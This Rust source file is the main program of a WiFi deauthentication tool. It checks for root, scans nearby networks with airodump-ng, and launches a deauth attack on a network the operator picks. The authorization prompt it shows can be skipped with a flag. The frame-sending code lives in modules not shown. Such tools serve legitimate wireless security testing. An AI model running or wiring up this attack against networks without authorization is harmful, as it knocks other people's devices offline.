use clap::Parser;
use std::io;
use std::process;
use tokio_util::sync::CancellationToken;

use wifi_deauth::attack::{AttackController, AttackTarget};
use wifi_deauth::backup::backup_previous_captures;
use wifi_deauth::cli::Args;
use wifi_deauth::display::{export_snapshot, Console, Presenter};
use wifi_deauth::interface::{detect_interfaces, resolve_monitor_interface};
use wifi_deauth::prompt;
use wifi_deauth::scan::ScanSession;
use wifi_deauth::signal::Interrupt;
use wifi_deauth::{Error, Result};

#[cfg(unix)]
extern crate libc;

fn check_root_privileges() -> bool {
    #[cfg(unix)]
    {
        unsafe { libc::geteuid() == 0 }
    }

    #[cfg(not(unix))]
    {
        false
    }
}

/// Runs a blocking stdin prompt, giving up when the operator interrupts.
async fn ask<T, F>(cancel: CancellationToken, question: F) -> Result<T>
where
    T: Send + 'static,
    F: FnOnce(&mut io::StdinLock<'static>, &mut io::Stdout) -> io::Result<T> + Send + 'static,
{
    let blocking = tokio::task::spawn_blocking(move || {
        let mut input = io::stdin().lock();
        question(&mut input, &mut io::stdout())
    });

    tokio::select! {
        answer = blocking => match answer {
            Ok(answer) => Ok(answer?),
            Err(e) => Err(Error::Io(io::Error::new(io::ErrorKind::Other, e))),
        },
        _ = cancel.cancelled() => Err(Error::Cancelled),
    }
}

async fn choose(interrupt: &Interrupt, question: &'static str, len: usize) -> Result<usize> {
    ask(interrupt.arm(), move |input, output| {
        prompt::choose(input, output, question, len)
    })
    .await?
    .ok_or(Error::Cancelled)
}

async fn select_interface(args: &Args, interrupt: &Interrupt, console: &Console) -> Result<String> {
    if let Some(interface) = &args.interface {
        return Ok(interface.clone());
    }

    console.warn("Detecting WiFi interfaces...");
    let interfaces = detect_interfaces();
    if interfaces.is_empty() {
        console.error("No WiFi interface found. Make sure an adapter is plugged in, or install 'iw' / 'wireless-tools'.");
        return Err(Error::NoInterface);
    }

    for (i, interface) in interfaces.iter().enumerate() {
        console.success(&format!("[{}] - {}", i, interface));
    }

    let idx = choose(interrupt, "Select interface (number)", interfaces.len()).await?;
    Ok(interfaces[idx].clone())
}

async fn run(args: Args) -> Result<()> {
    let console = Console::new(!args.no_color);
    console.clear();
    console.banner();

    if !check_root_privileges() {
        console.error("Run this tool with sudo or as root.");
        return Err(Error::NotRoot);
    }

    let interrupt = Interrupt::install()?;

    if !args.no_backup {
        for moved in backup_previous_captures(&args.dir)? {
            console.success(&format!("Backed up previous capture to {}", moved.display()));
        }
    }

    let interface = select_interface(&args, &interrupt, &console).await?;
    console.success(&format!("Selected interface: {}", interface));

    let mon_interface = resolve_monitor_interface(&interface);
    console.warn("Running airodump-ng... press Ctrl+C to stop.");
    let session = match ScanSession::start(args.scan_config(), &mon_interface) {
        Ok(session) => session,
        Err(e) => {
            console.error(&format!("Failed to run airodump-ng: {}", e));
            return Err(e);
        }
    };
    let networks = session.run(&console, interrupt.arm()).await;

    if let Some(path) = &args.export {
        export_snapshot(path, &networks)?;
        console.success(&format!("Scan results written to {}", path.display()));
    }

    if networks.is_empty() {
        console.error("No network available to select.");
        return Ok(());
    }

    let idx = choose(&interrupt, "Select network number to DEAUTH", networks.len()).await?;
    let target = AttackTarget::from(&networks[idx]);

    if !args.yes {
        let question = format!(
            "Only test networks you own or are authorized to assess. Deauth {} ({})?",
            target.essid, target.bssid
        );
        let authorized = ask(interrupt.arm(), move |input, output| {
            prompt::confirm(input, output, &question)
        })
        .await?;
        if !authorized {
            console.warn("Aborted, no changes were made.");
            return Ok(());
        }
    }

    let attack = args.attack_config();
    let radio = attack.radio();
    let controller = AttackController::new(&radio, &console, attack.interval);
    let report = controller.run(&interface, &target, interrupt.arm()).await;
    log::info!("Attack finished: {:?}", report);

    Ok(())
}

#[tokio::main]
async fn main() {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("warn")).init();

    let args = Args::parse();
    match run(args).await {
        Ok(()) => process::exit(0),
        Err(Error::Cancelled) => {
            eprintln!("\n[!] Cancelled");
            process::exit(130);
        }
        Err(e) => {
            eprintln!("Error: {}", e);
            process::exit(1);
        }
    }
}
